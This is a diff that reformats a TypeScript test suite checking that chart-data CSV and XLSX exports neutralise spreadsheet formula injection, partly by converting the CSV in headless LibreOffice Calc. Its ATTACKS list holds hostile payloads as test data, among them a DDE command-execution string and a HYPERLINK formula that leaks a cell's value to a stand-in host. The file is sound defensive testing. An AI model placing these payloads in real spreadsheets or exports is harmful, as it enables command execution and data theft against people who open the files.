@@ -15,10 +15,24 @@ import type { DataTable } from './chartData'
 import { toCsv, toXlsx } from './dataFiles'
 
 // Calc is a separate package from Impress (Debian: libreoffice-calc, whose library is libsclo.so).
-const calc = spawnSync('sh', ['-c', 'command -v soffice']).status === 0 && existsSync('/usr/lib/libreoffice/program/libsclo.so')
-if (!calc) console.log('formulaInjection.test: skipped the LibreOffice Calc check: soffice with Calc not found (apt-get install libreoffice-calc)')
+const calc =
+  spawnSync('sh', ['-c', 'command -v soffice']).status === 0 && existsSync('/usr/lib/libreoffice/program/libsclo.so')
+if (!calc)
+  console.log(
+    'formulaInjection.test: skipped the LibreOffice Calc check: soffice with Calc not found (apt-get install libreoffice-calc)'
+  )
 
-const ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?leak="&A2,"click")', '@SUM(1+1)', '+2+3', '-2+3', '=1+1', '\t=1+1', '\r=1+1', '-3']
+const ATTACKS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://x/?leak="&A2,"click")',
+  '@SUM(1+1)',
+  '+2+3',
+  '-2+3',
+  '=1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '-3'
+]
 /** Each attack as a page name and as a post text, next to a number column holding negative and signed numbers. */
 const table: DataTable = {
   columns: [
@@ -30,7 +44,8 @@ const table: DataTable = {
 }
 
 /** Cells as an XLSX holds them: XML readers turn a raw CR into LF (XML 1.0 end-of-line handling). */
-const inXlsx = (rows: DataTable['rows']) => rows.map((r) => r.map((v) => (typeof v === 'string' ? v.replace(/\r/g, '\n') : v)))
+const inXlsx = (rows: DataTable['rows']) =>
+  rows.map((r) => r.map((v) => (typeof v === 'string' ? v.replace(/\r/g, '\n') : v)))
 
 type Value = ExcelJS.CellValue
 const rowsOf = (ws: ExcelJS.Worksheet): Value[][] => {
@@ -46,15 +61,32 @@ describe('formula injection in chart-data exports', () => {
   })
   afterAll(() => rm(dir, { recursive: true, force: true }))
 
-  it.skipIf(!calc)('CSV: LibreOffice Calc opens every attack as text, with a leading quote; numbers stay numbers', async () => {
-    await writeFile(join(dir, 'data.csv'), toCsv(table))
-    execFileSync('soffice', ['--headless', `-env:UserInstallation=file://${join(dir, 'profile')}`, '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, join(dir, 'data.csv')], { timeout: 120_000, stdio: 'pipe' })
-    const wb = new ExcelJS.Workbook()
-    await wb.xlsx.readFile(join(dir, 'data.xlsx'))
-    const [header, ...rows] = rowsOf(wb.worksheets[0])
-    expect(header).toEqual(['institution', 'text', 'change'])
-    expect(rows).toEqual(inXlsx(table.rows.map(([name, text, n]) => [`'${name}`, `'${text}`, n])))
-  }, 150_000)
+  it.skipIf(!calc)(
+    'CSV: LibreOffice Calc opens every attack as text, with a leading quote; numbers stay numbers',
+    async () => {
+      await writeFile(join(dir, 'data.csv'), toCsv(table))
+      execFileSync(
+        'soffice',
+        [
+          '--headless',
+          `-env:UserInstallation=file://${join(dir, 'profile')}`,
+          '--infilter=CSV:44,34,76,1',
+          '--convert-to',
+          'xlsx',
+          '--outdir',
+          dir,
+          join(dir, 'data.csv')
+        ],
+        { timeout: 120_000, stdio: 'pipe' }
+      )
+      const wb = new ExcelJS.Workbook()
+      await wb.xlsx.readFile(join(dir, 'data.xlsx'))
+      const [header, ...rows] = rowsOf(wb.worksheets[0])
+      expect(header).toEqual(['institution', 'text', 'change'])
+      expect(rows).toEqual(inXlsx(table.rows.map(([name, text, n]) => [`'${name}`, `'${text}`, n])))
+    },
+    150_000
+  )
 
   it('XLSX: every attack is a string cell (no formula), numbers are numbers', async () => {
     const zip = await JSZip.loadAsync(await toXlsx(table, 'Data', ['=1+1 in a methodology line']))
